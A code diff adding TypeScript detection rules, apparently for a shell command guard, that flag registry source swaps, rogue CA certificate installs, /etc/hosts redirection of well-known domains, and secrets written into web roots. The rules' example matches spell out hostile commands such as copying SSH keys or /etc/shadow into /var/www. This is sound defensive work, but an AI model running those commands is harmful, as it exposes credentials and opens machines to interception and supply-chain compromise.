@@ -1,0 +1,129 @@
+import type { CommandRule, WriteRule } from '../rule.ts';
+import { traits } from '../shell/marks.ts';
+
+/** The host of an address; empty where there is none. */
+function hostOf(address: string): string {
+  return /^(?:[a-z+]{2,12}:\/\/)?(?:[^@/\s]{1,100}@)?(?<host>[\w.-]+)/.exec(address)?.groups?.host ?? '';
+}
+
+const plain =
+  /^http:\/\/(?!localhost|127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|[\w-]+(?::\d+)?(?:\/|$))/;
+const wellKnown =
+  /\b(?:github\.com|githubusercontent\.com|gitlab\.com|pypi\.org|pythonhosted\.org|npmjs\.(?:org|com)|docker\.(?:io|com)|crates\.io|rubygems\.org|debian\.org|ubuntu\.com|archlinux\.org|fedoraproject\.org|google\.com|googleapis\.com|microsoft\.com|apple\.com|amazonaws\.com|cloudflare\.com|mozilla\.org|kernel\.org|golang\.org|maven\.org|bitbucket\.org|paypal\.com)\b/;
+
+/** Whom this machine believes: where code comes from, who signs for it, what a name leads to. */
+export const trustRules: readonly (CommandRule | WriteRule)[] = [
+  {
+    id: 'replace-source',
+    on: 'command',
+    domain: 'packages',
+    risk: 'high',
+    programs: ['npm', 'pnpm', 'yarn', 'pip', 'pip3', 'uv', 'git', 'gem', 'cargo'],
+    title: 'Code from another source',
+    message:
+      'From now on code comes from an address that anybody in between can change, or that stands for another.',
+    stakes: [
+      'Every package that is installed from now on',
+      'Nothing shows that it came from elsewhere',
+      'It stays after this session',
+    ],
+    alternative: 'npm config get registry',
+    matches: [
+      'npm config set registry http://registry.example.com',
+      'git config --global url.https://git.example.com/.insteadOf https://github.com/',
+      'pip install --index-url http://203.0.113.80/simple --trusted-host 203.0.113.80 tool',
+    ],
+    spares: [
+      'npm config get registry',
+      'npm config set registry https://registry.npmjs.org/',
+      'git config --global url.git@github.com:.insteadOf https://github.com/',
+      'pip install --index-url https://pypi.org/simple tool',
+      'npm config set registry http://localhost:4873',
+    ],
+    when: (command) => {
+      if (command.program === 'git') {
+        const from = command.args.find(({ text }) => /^url\..+\.(?:push)?insteadof$/i.test(text))?.text;
+        if (from === undefined || !command.is('config')) return false;
+        const replaced = command.args.at(-1)?.text ?? '';
+        return hostOf(from.slice(4, from.toLowerCase().lastIndexOf('.'))) !== hostOf(replaced);
+      }
+      if (
+        command.args.some(
+          ({ text }, index) => text.endsWith('registry') && plain.test(command.args[index + 1]?.text ?? ''),
+        )
+      )
+        return true;
+      return command.args.some(
+        ({ text }, index) =>
+          (/^(?:-i|--index-url|--extra-index-url|--source|--registry)$/.test(text) &&
+            plain.test(command.args[index + 1]?.text ?? '')) ||
+          (/^--(?:index-url|extra-index-url|registry)=/.test(text) &&
+            plain.test(text.slice(text.indexOf('=') + 1))),
+      );
+    },
+  },
+  {
+    id: 'trust-authority',
+    on: 'write',
+    domain: 'network',
+    risk: 'high',
+    title: 'A new authority that is believed',
+    message: 'This lets whoever holds the key of this certificate pass for any server.',
+    stakes: [
+      'Every encrypted connection of this machine',
+      'Passwords that are sent',
+      'It stays until it is removed',
+    ],
+    alternative: 'openssl x509 -in ca.crt -noout -subject',
+    matches: [
+      'cp rogue.crt /usr/local/share/ca-certificates/',
+      'curl -o /etc/pki/ca-trust/source/anchors/x.pem https://example.com/x.pem',
+    ],
+    spares: [
+      'openssl x509 -in ca.crt -noout -subject',
+      'cp ca.crt certs/',
+      'ls /usr/local/share/ca-certificates',
+    ],
+    when: ({ path }) => /\/ca-certificates\/|\/ca-trust\/source\/|\/trust-source\/anchors\//.test(path.text),
+  },
+  {
+    id: 'redirect-names',
+    on: 'write',
+    domain: 'network',
+    risk: 'high',
+    title: 'A known name that leads elsewhere',
+    message: 'This makes the name of a server that everyone knows lead to another address.',
+    stakes: ['Whatever is fetched or sent under that name', 'Passwords that are sent', 'Nothing shows it'],
+    alternative: 'getent hosts github.com',
+    matches: ["echo '198.51.100.23 github.com' | sudo tee -a /etc/hosts"],
+    spares: [
+      "echo '127.0.0.1 app.test' | sudo tee -a /etc/hosts",
+      'echo "0.0.0.0 facebook.com" >> /etc/hosts',
+      'cat /etc/hosts',
+    ],
+    when: ({ path, content }) =>
+      /^(?:\/private)?\/etc\/hosts$/.test(path.text) &&
+      content.text
+        .split('\n', 200)
+        .some((line) => !/^\s*(?:#|127\.|0\.0\.0\.0|::1)/.test(line) && wellKnown.test(line)),
+  },
+  {
+    id: 'publish-secrets',
+    on: 'write',
+    domain: 'secrets',
+    risk: 'critical',
+    title: 'Credentials where a server shows them',
+    message: 'This puts keys, passwords or a copy of a database where a web server gives them to anybody.',
+    stakes: ['Whoever reads them can log in as you', 'They must all be replaced', 'Search engines find them'],
+    alternative: 'ls -l /var/www/html',
+    matches: [
+      'cp ~/.ssh/id_rsa /var/www/html/x.txt',
+      'cat /etc/shadow > /srv/www/s',
+      'mysqldump shop > /var/www/html/shop.sql',
+    ],
+    spares: ['cp index.html /var/www/html/', 'cp ~/.ssh/id_rsa backup/', 'mysqldump shop > shop.sql'],
+    when: ({ path, content }) =>
+      (content.traits & (traits.secret | traits.records)) !== 0 &&
+      /\/(?:www|public_html|htdocs|wwwroot|srv\/http|nginx\/html)\//.test(path.text),
+  },
+];
